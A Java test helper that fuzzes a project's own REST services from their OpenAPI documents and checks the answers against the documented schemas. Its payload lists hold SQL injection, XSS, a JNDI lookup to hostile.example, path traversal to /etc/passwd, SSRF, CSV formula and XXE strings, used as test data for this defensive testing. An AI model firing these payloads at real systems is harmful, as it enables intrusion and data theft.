package io.leadstream.systemtests;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import com.networknt.schema.ValidationMessage;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Hostile input (S7): requests generated from the request schemas of a committed OpenAPI document (docs/api/), and the
 * check every answer must pass. The property classes ({@code *HostileInputTest}) pick an operation, a kind of input
 * and a seed; {@link #call} sends it to the running suite with a token of a role the operation allows, and
 * {@link #violations} lists what is wrong with the answer: a 5xx, a status the operation does not document, a content
 * type it does not document for that status, a body that does not validate against the documented schema, an error
 * that is not problem+json with {@code type}, {@code title} and {@code status}.
 * <p>
 * Generated leads' addresses are {@code …@hostile.example} and their phones {@code +44 20 7946 0…} (Ofcom's drama
 * range): deploy/local/scan-logs.sh looks for the system tests' {@code @example.com/.org/.net} addresses and
 * {@code +1 202} phones in the services' logs, and hostile strings may well be logged. No generated value uses the
 * documents' examples when they hold an address or a phone.
 */
final class HostileInput {

    /** What may be sent to an operation. */
    enum Use {
        /** valid, boundary and hostile bodies */
        ANY,
        /**
         * only bodies no service can take (not JSON, not the documented media type, not an object at the root): the
         * operation changes something global (rules, SLAs, reps, sequences, webhooks), so a valid body would change
         * what the other system tests rely on
         */
        REFUSED_BODIES_ONLY
    }

    /** The kinds of input; each call is one of them. */
    enum Kind {
        VALID, BOUNDARY, WRONG_TYPE, MISSING_REQUIRED, EXTRA_FIELDS, HUGE_STRING, UNICODE, INJECTION,
        MALFORMED_JSON, ROOT_NOT_AN_OBJECT, WRONG_CONTENT_TYPE, HOSTILE_PATH, HOSTILE_QUERY
    }

    static final Set<Kind> REFUSED_KINDS = Set.of(Kind.MALFORMED_JSON, Kind.ROOT_NOT_AN_OBJECT,
            Kind.WRONG_CONTENT_TYPE);

    record Operation(String service, String method, String path, JsonNode node, Supplier<String> token, Use use,
            boolean quota) {

        String key() {
            return service + " " + method + " " + path;
        }

        boolean hasJsonBody() {
            return node.path("requestBody").path("content").has("application/json")
                    || node.path("requestBody").path("content").has("application/merge-patch+json");
        }

        String bodyType() {
            return node.path("requestBody").path("content").has("application/merge-patch+json")
                    ? "application/merge-patch+json" : "application/json";
        }

        @Override
        public String toString() {
            return key();
        }
    }

    record Call(Operation operation, Kind kind, String url, Map<String, String> headers, String contentType,
            byte[] body) {

        @Override
        public String toString() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return kind + " " + operation.method() + " " + shorten(url) + (contentType == null ? "" : " [" + contentType
                    + "] ") + shorten(text) + (headers.isEmpty() ? "" : " headers " + headers.keySet());
        }
    }

    record Answer(int status, String contentType, String body) {
    }

    /**
     * Property level (API3): fields no request may write, each with a value no service would ever produce itself, so that
     * seeing it in an answer proves the request wrote it ({@link #written}).
     */
    static final Map<String, JsonNode> NEVER_WRITABLE = Map.of(
            "id", TextNode.valueOf("00000000-0000-4000-8000-00000000dead"),
            "score", com.fasterxml.jackson.databind.node.IntNode.valueOf(4242),
            "owner", TextNode.valueOf("hostile-owner"),
            "stage", TextNode.valueOf("HOSTILE_STAGE"),
            "tenant", TextNode.valueOf("hostile-tenant"),
            "createdAt", TextNode.valueOf("1999-12-31T23:59:59Z"),
            "version", com.fasterxml.jackson.databind.node.IntNode.valueOf(4242));

    static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
    static final ObjectMapper JSON = new ObjectMapper();
    /** writes every non-ASCII character as {@code \\uXXXX}: lone surrogates and NUL reach the service as JSON escapes */
    static final ObjectMapper ESCAPING = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
    static final int HUGE = 100_000;
    static final int MAX_URL = 3500;

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE lead; --", "1); SELECT pg_sleep(3); --", "\\'; --",
            "{\"$ne\":null}", "\"},{\"injected\":true,\"x\":\"", "__proto__", "constructor",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
            "{{7*7}}", "${7*7}", "#{7*7}", "{inject:vertx}", "{lead.email}", "%s%s%s%n", "${jndi:ldap://hostile.example/a}",
            "line\r\nX-Injected: yes", "%0d%0aSet-Cookie:%20hostile=1", "a\nb\rc",
            "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\windows\\win.ini", "/etc/passwd",
            "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "=cmd|' /C calc'!A0", "@SUM(1+1)",
            "null", "true", "-1", "NaN", "1e309", "", " ", "\t");
    static final List<String> UNICODE = List.of(
            "Zoë Ångström", "😀👍🏽👨‍👩‍👧", "مرحبا بالعالم", "שלום", "\u202Eevil\u202C", "\u200B\u200D\uFEFF",
            "nul\u0000byte", "\u0000", "lone \uD800 surrogate", "\uDFFF", "\uFFFF\uFFFE", "ﷺ", "Ǆǅǆ",
            "e\u0301\u0301\u0301\u0301", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊", "\u0007\u001B[31mred", "中文字符", "İı");

    private static final Map<String, JsonNode> DOCUMENTS = new ConcurrentHashMap<>();
    private static final Map<String, JsonSchema> SCHEMAS = new ConcurrentHashMap<>();
    private static final JsonSchemaFactory FACTORY = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012);
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5))
            .followRedirects(HttpClient.Redirect.NEVER).build();

    private HostileInput() {
    }

    // ---------------------------------------------------------------- the documents

    static JsonNode document(String service) {
        return DOCUMENTS.computeIfAbsent(service, s -> {
            try {
                return YAML.readTree(Suite.repository().resolve("docs/api/" + s + "-service.yaml").toFile());
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /**
     * The operations of a service's document with the token of the first role, in this order, the role table allows:
     * admin, manager, rep1 (people have no quota), partner-globex (a partner's quota is 120 a minute: the partner
     * operations are few), crm-app. Public operations get no token. {@code excluded} maps "METHOD path" to why it is
     * left out; {@code refusedOnly} names the operations that get only bodies no service can take.
     */
    static List<Operation> operations(String service, Map<String, String> excluded, Set<String> refusedOnly) {
        Map<String, Set<String>> table = RoleTableTest.roleTable();
        List<Operation> operations = new ArrayList<>();
        Set<String> seen = new java.util.HashSet<>();
        for (Map.Entry<String, JsonNode> entry : RoleTableTest.operations().entrySet()) {
            String[] parts = entry.getKey().split(" ", 3);
            if (!parts[0].equals(service)) {
                continue;
            }
            String key = parts[1] + " " + parts[2];
            seen.add(key);
            if (excluded.containsKey(key)) {
                continue;
            }
            Set<String> roles = table.get(entry.getKey());
            if (roles == null) {
                throw new AssertionError(entry.getKey() + " is missing from docs/security.md's role table");
            }
            boolean person = roles.contains("public") || roles.contains("lead-admin")
                    || roles.contains("sales-manager") || roles.contains("sales-rep");
            operations.add(new Operation(service, parts[1], parts[2], entry.getValue(), token(roles),
                    refusedOnly.contains(key) ? Use.REFUSED_BODIES_ONLY : Use.ANY, !person));
        }
        for (String key : excluded.keySet()) {
            if (!seen.contains(key)) {
                throw new AssertionError("excluded operation " + key + " is not in " + service + "'s document");
            }
        }
        for (String key : refusedOnly) {
            if (!seen.contains(key)) {
                throw new AssertionError("operation " + key + " is not in " + service + "'s document");
            }
        }
        return operations;
    }

    private static Supplier<String> token(Set<String> roles) {
        if (roles.contains("public")) {
            return () -> null;
        }
        if (roles.contains("lead-admin")) {
            return () -> Suite.userToken("admin");
        }
        if (roles.contains("sales-manager")) {
            return () -> Suite.userToken("manager");
        }
        if (roles.contains("sales-rep")) {
            return () -> Suite.userToken("rep1");
        }
        if (roles.contains("partner")) {
            return () -> Suite.clientToken("partner-globex", "partner-globex-secret");
        }
        if (roles.contains("integration")) {
            return Suite::crmApp;
        }
        throw new IllegalArgumentException("no caller for roles " + roles);
    }

    // ---------------------------------------------------------------- the generator

    /**
     * Calls to the operations: an operation, a kind of input and a seed (shrinks towards the first operation).
     * {@code knownIds} ("METHOD path" → ids) gives real ids for an operation's path parameter half of the time.
     */
    static Arbitrary<Call> calls(String baseUrl, List<Operation> operations, Map<String, List<String>> knownIds) {
        // a client with a quota (the partner operations) is picked a tenth as often: its bucket (120 a minute) is
        // shared with PartnerApiTest and PartnerSharingTest, which may run next
        List<Tuple.Tuple2<Integer, Operation>> weighted = operations.stream()
                .map(o -> Tuple.of(o.quota() ? 1 : 10, o)).toList();
        return Combinators.combine(Arbitraries.frequency(weighted), Arbitraries.of(Kind.values()),
                Arbitraries.longs()).as((operation, kind, seed) -> build(baseUrl, operation, kind, seed, knownIds));
    }

    static Call build(String baseUrl, Operation operation, Kind kind, long seed, Map<String, List<String>> knownIds) {
        Random random = new Random(seed);
        boolean refusedOnly = operation.use() == Use.REFUSED_BODIES_ONLY;
        if (refusedOnly && operation.hasJsonBody() && !REFUSED_KINDS.contains(kind)) {
            kind = List.copyOf(REFUSED_KINDS).get(Math.floorMod(kind.ordinal(), REFUSED_KINDS.size()));
        }
        JsonNode document = document(operation.service());
        Map<String, String> headers = new LinkedHashMap<>();
        StringBuilder query = new StringBuilder();
        String path = operation.path();
        for (JsonNode parameter : operation.node().path("parameters")) {
            String name = parameter.path("name").asText();
            JsonNode schema = resolve(document, parameter.path("schema"));
            switch (parameter.path("in").asText()) {
                case "path" -> {
                    String value;
                    List<String> known = knownIds.getOrDefault(operation.method() + " " + operation.path(),
                            List.of());
                    if (kind == Kind.HOSTILE_PATH) {
                        value = hostileString(random, 1000);
                        if (value.isEmpty() || value.equals(".") || value.equals("..")) {
                            value = "\u0000"; // an empty or dot segment names another path, not this operation
                        }
                    } else if (!known.isEmpty() && random.nextBoolean()) {
                        value = known.get(random.nextInt(known.size()));
                    } else {
                        value = UUID.randomUUID().toString();
                    }
                    path = path.replace("{" + name + "}", encodePath(value));
                }
                case "query" -> {
                    String value = null;
                    if (kind == Kind.HOSTILE_QUERY && random.nextInt(10) < 7) {
                        value = "integer".equals(type(schema)) ? pick(random, "-1", "0", "2147483648",
                                "99999999999999999999", "abc", "1.5", "1e3", "", " 5", "0x10")
                                : hostileString(random, 1000);
                    } else if (random.nextInt(3) == 0) {
                        JsonNode valid = valid(document, schema, random, false, name, 0);
                        value = valid == null || valid.isNull() ? null : valid.asText();
                    }
                    if (value != null) {
                        query.append(query.isEmpty() ? '?' : '&').append(encodeQuery(name)).append('=')
                                .append(encodeQuery(value));
                    }
                }
                case "header" -> {
                    if (kind == Kind.HOSTILE_QUERY) {
                        // a header value cannot hold CR, LF or NUL (the HTTP client refuses them): printable hostility
                        headers.put(name, pick(random, "' OR '1'='1", "<script>", "../../etc/passwd", "x".repeat(4000),
                                "", " ", "%00"));
                    } else if (parameter.path("required").asBoolean() || random.nextBoolean()) {
                        headers.put(name, "hostile-" + UUID.randomUUID());
                    }
                }
                default -> {
                }
            }
        }
        String url = baseUrl + path + query;
        if (url.length() > MAX_URL) {
            // KNOWN GAP: a request line over Vert.x' limit (4096) gets Vert.x' own 414/431 without a body, before any
            // service code runs; hostile URLs stay under it
            int cut = url.lastIndexOf('&', MAX_URL) > url.indexOf('?') ? url.lastIndexOf('&', MAX_URL) : MAX_URL;
            while (url.lastIndexOf('%', cut - 1) > cut - 3) {
                cut--; // not inside a percent escape
            }
            url = url.substring(0, cut);
        }
        JsonNode content = operation.node().path("requestBody").path("content");
        if (content.isMissingNode() || content.isEmpty()) {
            return new Call(operation, kind, url, headers, null, null);
        }
        if (!operation.hasJsonBody()) {
            // the form post's urlencoded, import's CSV, the webhook's mail: only JSON bodies are generated here
            String type = content.fieldNames().next();
            return new Call(operation, kind, url, headers, type,
                    hostileString(random, 200).getBytes(StandardCharsets.UTF_8));
        }
        String contentType = operation.bodyType();
        JsonNode schema = resolve(document, content.path(contentType).path("schema"));
        JsonNode body = valid(document, schema, random, kind == Kind.BOUNDARY, "", 0);
        ObjectMapper writer = JSON;
        byte[] bytes = null;
        switch (kind) {
            case VALID, BOUNDARY, HOSTILE_PATH, HOSTILE_QUERY -> {
            }
            case WRONG_TYPE -> body = replaceOne(document, schema, body, random,
                    (field, fieldSchema) -> wrongType(random, type(fieldSchema)));
            case MISSING_REQUIRED -> {
                JsonNode required = schema.path("required");
                if (body instanceof ObjectNode object && required.size() > 0) {
                    object.remove(required.get(random.nextInt(required.size())).asText());
                } else if (body instanceof ObjectNode object && object.size() > 0) {
                    object.remove(object.fieldNames().next());
                }
            }
            case EXTRA_FIELDS -> {
                if (body instanceof ObjectNode object) {
                    for (Map.Entry<String, JsonNode> field : NEVER_WRITABLE.entrySet()) {
                        if (!schema.path("properties").has(field.getKey())) {
                            object.set(field.getKey(), field.getValue());
                        }
                    }
                    object.put(random.nextBoolean() ? "__proto__" : "hostile-" + random.nextInt(1000), "hostile");
                    object.set("unexpected", JSON.createObjectNode().put("nested", true));
                }
            }
            case HUGE_STRING -> body = replaceOne(document, schema, body, random, (field, fieldSchema) -> TextNode
                    .valueOf(random.nextBoolean() ? "A".repeat(HUGE) : "😀".repeat(HUGE / 4)));
            case UNICODE -> {
                writer = ESCAPING;
                body = replaceOne(document, schema, body, random,
                        (field, fieldSchema) -> TextNode.valueOf(pick(random, UNICODE)));
            }
            case INJECTION -> body = replaceOne(document, schema, body, random,
                    (field, fieldSchema) -> TextNode.valueOf(pick(random, INJECTIONS)));
            case MALFORMED_JSON -> bytes = malformed(random);
            // an operation that must stay unchanged gets neither {} (a valid body where every field has a default) nor a
            // valid body as "application/json; charset=utf-7" (still JSON to the service): both were taken, and made
            // reps, a sequence enrolling every qualified lead, ... that the other system tests then met
            case ROOT_NOT_AN_OBJECT -> bytes = (refusedOnly
                    ? pick(random, "null", "[]", "[{}]", "\"hostile\"", "42", "true")
                    : pick(random, "null", "[]", "[{}]", "\"hostile\"", "42", "true", "{}"))
                    .getBytes(StandardCharsets.UTF_8);
            case WRONG_CONTENT_TYPE -> contentType = refusedOnly
                    ? pick(random, "text/plain", "application/xml", "application/x-www-form-urlencoded",
                            "multipart/form-data", "application/octet-stream")
                    : pick(random, "text/plain", "application/xml", "application/x-www-form-urlencoded",
                            "application/json; charset=utf-7", "multipart/form-data", "application/octet-stream");
            default -> throw new IllegalStateException(kind.toString());
        }
        if (bytes == null) {
            try {
                bytes = writer.writeValueAsBytes(body);
            } catch (JsonProcessingException e) {
                throw new UncheckedIOException(e);
            }
        }
        return new Call(operation, kind, url, headers, contentType, bytes);
    }

    private static byte[] malformed(Random random) {
        return switch (random.nextInt(10)) {
            case 0 -> new byte[0];
            case 1 -> "{".getBytes(StandardCharsets.UTF_8);
            case 2 -> "{\"a\":}".getBytes(StandardCharsets.UTF_8);
            case 3 -> "[".repeat(5000).getBytes(StandardCharsets.UTF_8);
            case 4 -> ("{\"a\":" + "1".repeat(5000) + "}").getBytes(StandardCharsets.UTF_8);
            case 5 -> new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'};
            case 6 -> "{\"a\":\"\u0000\"".getBytes(StandardCharsets.UTF_8);
            case 7 -> "{'single':'quotes'}".getBytes(StandardCharsets.UTF_8);
            case 8 -> ("{" + "\"k\":{".repeat(2000) + "}".repeat(2001)).getBytes(StandardCharsets.UTF_8);
            default -> "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
                    .getBytes(StandardCharsets.UTF_8);
        };
    }

    private static JsonNode wrongType(Random random, String type) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<JsonNode> candidates = new ArrayList<>(List.of(f.numberNode(123), f.booleanNode(true), f.objectNode(),
                f.arrayNode(), f.numberNode(1.5), f.textNode("hostile"),
                f.numberNode(new BigInteger("99999999999999999999999")), f.numberNode(-1)));
        candidates.removeIf(node -> switch (type == null ? "" : type) {
            case "string" -> node.isTextual();
            case "integer" -> node.isIntegralNumber() && !node.isBigInteger();
            case "number" -> node.isNumber();
            case "boolean" -> node.isBoolean();
            case "array" -> node.isArray();
            case "object" -> node.isObject();
            default -> false;
        });
        return candidates.get(random.nextInt(candidates.size()));
    }

    /** Replaces one property of the body (at the top or one level down) with what {@code value} makes. */
    private static JsonNode replaceOne(JsonNode document, JsonNode schema, JsonNode body, Random random,
            java.util.function.BiFunction<String, JsonNode, JsonNode> value) {
        if (!(body instanceof ObjectNode object)) {
            return value.apply("", schema);
        }
        JsonNode properties = schema.path("properties");
        List<String> names = new ArrayList<>();
        properties.fieldNames().forEachRemaining(names::add);
        if (names.isEmpty()) {
            object.set("hostile", value.apply("hostile", JSON.createObjectNode()));
            return object;
        }
        String name = names.get(random.nextInt(names.size()));
        JsonNode fieldSchema = resolve(document, properties.path(name));
        JsonNode current = object.get(name);
        if (current instanceof ObjectNode && random.nextBoolean()) {
            object.set(name, replaceOne(document, fieldSchema, current, random, value));
        } else if (current instanceof ArrayNode array && !array.isEmpty() && random.nextBoolean()) {
            array.set(0, value.apply(name, resolve(document, fieldSchema.path("items"))));
        } else {
            object.set(name, value.apply(name, fieldSchema));
        }
        return object;
    }

    /** A value the schema allows; at the limits (longest strings, largest arrays, min or max) when {@code boundary}. */
    static JsonNode valid(JsonNode document, JsonNode schemaNode, Random random, boolean boundary, String name,
            int depth) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        JsonNode schema = resolve(document, schemaNode);
        if (schema.has("const")) {
            return schema.get("const");
        }
        for (String combinator : List.of("anyOf", "oneOf", "allOf")) {
            for (JsonNode branch : schema.path(combinator)) {
                if (!"null".equals(type(resolve(document, branch)))) {
                    return valid(document, branch, random, boundary, name, depth);
                }
            }
        }
        if (schema.has("enum")) {
            List<JsonNode> values = new ArrayList<>();
            schema.get("enum").forEach(v -> {
                if (!v.isNull()) {
                    values.add(v);
                }
            });
            return values.isEmpty() ? f.nullNode() : values.get(random.nextInt(values.size()));
        }
        String type = type(schema);
        if (type == null) {
            type = schema.has("properties") ? "object" : "string";
        }
        switch (type) {
            case "object" -> {
                ObjectNode object = f.objectNode();
                Set<String> required = new java.util.HashSet<>();
                schema.path("required").forEach(r -> required.add(r.asText()));
                for (Iterator<Map.Entry<String, JsonNode>> p = schema.path("properties").fields(); p.hasNext();) {
                    Map.Entry<String, JsonNode> property = p.next();
                    if (required.contains(property.getKey()) || (depth < 4 && (boundary || random.nextBoolean()))) {
                        JsonNode value = valid(document, property.getValue(), random, boundary, property.getKey(),
                                depth + 1);
                        if (value != null) {
                            object.set(property.getKey(), value);
                        }
                    }
                }
                JsonNode additional = schema.path("additionalProperties");
                if (additional.isObject() && !schema.has("properties") && depth < 4) {
                    int entries = boundary ? 3 : random.nextInt(3);
                    for (int i = 0; i < entries; i++) {
                        object.set("k" + i, valid(document, additional, random, boundary, "k" + i, depth + 1));
                    }
                }
                return object;
            }
            case "array" -> {
                ArrayNode array = f.arrayNode();
                int min = schema.path("minItems").asInt(0);
                int max = Math.min(schema.path("maxItems").asInt(3), boundary ? 20 : 3);
                int size = boundary ? max : min + random.nextInt(Math.max(1, max - min + 1));
                Set<JsonNode> seen = new java.util.HashSet<>();
                for (int i = 0, attempts = 0; array.size() < Math.max(size, min) && attempts < 50; attempts++) {
                    JsonNode item = valid(document, schema.path("items"), random, boundary && i == 0, name,
                            depth + 1);
                    if (!schema.path("uniqueItems").asBoolean() || seen.add(item)) {
                        array.add(item);
                        i++;
                    }
                }
                return array;
            }
            case "integer", "number" -> {
                long min = schema.has("minimum") ? schema.get("minimum").asLong() : 0;
                long max = schema.has("maximum") ? schema.get("maximum").asLong() : Math.max(min, 100);
                if (boundary) {
                    return f.numberNode(random.nextBoolean() ? min : max);
                }
                return f.numberNode(min + (long) (random.nextDouble() * (max - min)));
            }
            case "boolean" -> {
                return f.booleanNode(random.nextBoolean());
            }
            default -> {
                return f.textNode(validString(schema, random, boundary, name));
            }
        }
    }

    private static String validString(JsonNode schema, Random random, boolean boundary, String name) {
        String lower = name.toLowerCase(Locale.ROOT);
        String format = schema.path("format").asText("");
        int maxLength = schema.path("maxLength").asInt(Integer.MAX_VALUE);
        String value;
        if (lower.contains("email") || format.equals("email")) {
            value = "hostile-" + Long.toHexString(random.nextLong() & 0xffffffffL) + "@hostile.example";
        } else if (lower.contains("phone")) {
            value = String.format("+44 20 7946 0%03d", random.nextInt(1000));
        } else if (format.equals("uuid")) {
            value = UUID.randomUUID().toString();
        } else if (format.equals("date-time")) {
            value = Instant.now().plus(random.nextInt(48) - 24, ChronoUnit.HOURS).truncatedTo(ChronoUnit.SECONDS)
                    .toString();
        } else if (format.equals("date")) {
            value = LocalDate.now().plusDays(random.nextInt(60) - 30).toString();
        } else if (format.startsWith("uri") || format.equals("url") || lower.endsWith("url")) {
            value = "https://hostile.example/" + random.nextInt(1000);
        } else if (lower.contains("timezone") || lower.equals("tz")) {
            value = "Europe/London";
        } else {
            value = null;
            Pattern pattern = pattern(schema);
            List<String> candidates = new ArrayList<>();
            schema.path("examples").forEach(e -> {
                if (e.isValueNode() && !e.asText().contains("@") && !e.asText().contains("+1")) {
                    candidates.add(e.asText());
                }
            });
            candidates.addAll(List.of("hostile-" + random.nextInt(100000), "hostile", "web", "en", "GB", "EUR", "a",
                    "A1", "09:00", "1"));
            for (String candidate : candidates) {
                if (candidate.length() <= maxLength && (pattern == null || pattern.matcher(candidate).find())) {
                    value = candidate;
                    break;
                }
            }
            if (value == null) {
                value = "hostile";
            }
            if (boundary && maxLength < 100_000 && random.nextBoolean()) {
                String padded = value + "x".repeat(Math.max(0, maxLength - value.length()));
                if (pattern == null || pattern.matcher(padded).find()) {
                    value = padded;
                }
            }
        }
        return value.length() > maxLength ? value.substring(0, maxLength) : value;
    }

    private static Pattern pattern(JsonNode schema) {
        if (!schema.has("pattern")) {
            return null;
        }
        try {
            return Pattern.compile(schema.get("pattern").asText());
        } catch (PatternSyntaxException e) {
            return null;
        }
    }

    static String hostileString(Random random, int maxLength) {
        return switch (random.nextInt(4)) {
            case 0 -> pick(random, UNICODE);
            case 1 -> "x".repeat(random.nextInt(maxLength) + 1);
            default -> pick(random, INJECTIONS);
        };
    }

    /** The schema's type, the first one that is not "null" when it names several. */
    static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode t : type) {
                if (!"null".equals(t.asText())) {
                    return t.asText();
                }
            }
            return "null";
        }
        return type.isTextual() ? type.asText() : null;
    }

    /** Follows {@code $ref}s of the document (a {@code $ref} with siblings keeps the siblings it has). */
    static JsonNode resolve(JsonNode document, JsonNode schema) {
        for (int i = 0; i < 10 && schema.has("$ref"); i++) {
            String ref = schema.get("$ref").asText();
            JsonNode target = document.at(ref.substring(1));
            if (schema.size() > 1) {
                ObjectNode merged = ((ObjectNode) target).deepCopy();
                schema.fields().forEachRemaining(e -> {
                    if (!e.getKey().equals("$ref")) {
                        merged.set(e.getKey(), e.getValue());
                    }
                });
                schema = merged;
            } else {
                schema = target;
            }
        }
        return schema;
    }

    @SafeVarargs
    private static <T> T pick(Random random, T... values) {
        return values[random.nextInt(values.length)];
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String encodePath(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String encodeQuery(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String shorten(String text) {
        String printable = text.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
        return printable.length() > 300 ? printable.substring(0, 300) + "…(" + printable.length() + " chars)" : printable;
    }

    // ---------------------------------------------------------------- sending

    static Answer call(Call call) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(call.url())).timeout(Duration.ofSeconds(30));
        String token = call.operation().token().get();
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        call.headers().forEach(request::header);
        if (call.contentType() != null) {
            request.header("Content-Type", call.contentType());
        }
        request.method(call.operation().method(), call.body() == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(call.body()));
        try {
            HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
            return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(null),
                    response.body());
        } catch (IOException e) {
            throw new UncheckedIOException("no answer to " + call, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    // ---------------------------------------------------------------- the check

    /** What is wrong with the answer to a call of the operation, in the committed document's terms; empty if nothing. */
    static List<String> violations(Operation operation, Answer answer) {
        List<String> violations = new ArrayList<>();
        int status = answer.status();
        if (status >= 500) {
            violations.add("a " + status + " (a server error) to hostile input");
        }
        JsonNode responses = operation.node().path("responses");
        JsonNode response = responses.has(String.valueOf(status)) ? responses.get(String.valueOf(status))
                : responses.has(status / 100 + "XX") ? responses.get(status / 100 + "XX") : responses.path("default");
        if (response.isMissingNode()) {
            violations.add("status " + status + " is not documented for " + operation.key() + " (documented: "
                    + iterable(responses.fieldNames()) + ")");
        }
        response = resolve(document(operation.service()), response);
        JsonNode content = response.path("content");
        String mediaType = answer.contentType() == null ? null
                : answer.contentType().split(";")[0].strip().toLowerCase(Locale.ROOT);
        boolean hasBody = answer.body() != null && !answer.body().isEmpty();
        if (!response.isMissingNode()) {
            if (content.isMissingNode() || content.isEmpty()) {
                if (hasBody && !"HEAD".equals(operation.method())) {
                    violations.add("a body (" + mediaType + ") where " + status + " documents none");
                }
            } else if (mediaType == null || !content.has(mediaType)) {
                violations.add("content type " + answer.contentType() + " where " + status + " documents "
                        + iterable(content.fieldNames()));
            }
        }
        boolean problem = "application/problem+json".equals(mediaType);
        boolean errorDocumentedOtherwise = status >= 400 && !content.isMissingNode() && !content.isEmpty()
                && !content.has("application/problem+json");
        if (status >= 400 && !problem && !errorDocumentedOtherwise) {
            violations.add("an error (" + status + ") that is not application/problem+json but " + answer.contentType());
        }
        JsonNode body = null;
        if (mediaType != null && (mediaType.equals("application/json") || mediaType.endsWith("+json")) && hasBody) {
            try {
                body = JSON.readTree(answer.body());
            } catch (IOException e) {
                violations.add("a " + mediaType + " body that is not JSON: " + shorten(answer.body()));
            }
        }
        if (problem && body != null) {
            if (!body.path("type").isTextual() || !body.path("title").isTextual()) {
                violations.add("a problem without type and title: " + shorten(answer.body()));
            }
            if (!body.path("status").isInt() || body.path("status").asInt() != status) {
                violations.add("a problem whose status is not " + status + ": " + shorten(answer.body()));
            }
        } else if (problem) {
            violations.add("an empty problem+json body");
        }
        if (body != null && mediaType != null && content.has(mediaType) && content.get(mediaType).has("schema")) {
            // KNOWN GAP (documents, not services): the services write an empty optional property as null, and the
            // committed documents type most such properties without "null" (e.g. capture's Lead.address.region,
            // distribution's RuleBook when.minScore, scoring's fit when.currency). Until the documents say
            // type: [T, "null"] (or the services leave nulls out), a null counts as absent: a required property
            // that is null still fails as missing.
            body = withoutNulls(body);
            String pointer = "/paths/" + escape(operation.path()) + "/" + operation.method().toLowerCase(Locale.ROOT)
                    + "/responses/" + status + "/content/" + escape(mediaType) + "/schema";
            for (ValidationMessage message : schema(operation.service(), pointer, content.get(mediaType).get("schema"))
                    .validate(body)) {
                violations.add("the " + status + " body does not match its schema: " + message.getMessage());
                if (violations.size() > 10) {
                    break;
                }
            }
        }
        return violations;
    }

    static JsonNode withoutNulls(JsonNode node) {
        if (node instanceof ObjectNode object) {
            ObjectNode copy = JSON.createObjectNode();
            object.fields().forEachRemaining(e -> {
                if (!e.getValue().isNull()) {
                    copy.set(e.getKey(), withoutNulls(e.getValue()));
                }
            });
            return copy;
        }
        if (node instanceof ArrayNode array) {
            ArrayNode copy = JSON.createArrayNode();
            array.forEach(item -> copy.add(withoutNulls(item)));
            return copy;
        }
        return node;
    }

    /**
     * The schema at {@code pointer} as a 2020-12 schema: the document's {@code #/components/schemas/…} references
     * become {@code #/$defs/…} of a copy that carries the document's component schemas.
     */
    static JsonSchema schema(String service, String pointer, JsonNode schema) {
        return SCHEMAS.computeIfAbsent(service + pointer, k -> {
            try {
                JsonNode document = document(service);
                String text = JSON.writeValueAsString(schema).replace("\"#/components/schemas/", "\"#/$defs/");
                ObjectNode root = schema.isObject() ? (ObjectNode) JSON.readTree(text) : JSON.createObjectNode();
                String defs = JSON.writeValueAsString(document.path("components").path("schemas"))
                        .replace("\"#/components/schemas/", "\"#/$defs/");
                root.set("$defs", JSON.readTree(defs));
                return FACTORY.getSchema(root);
            } catch (JsonProcessingException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static String escape(String pointerPart) {
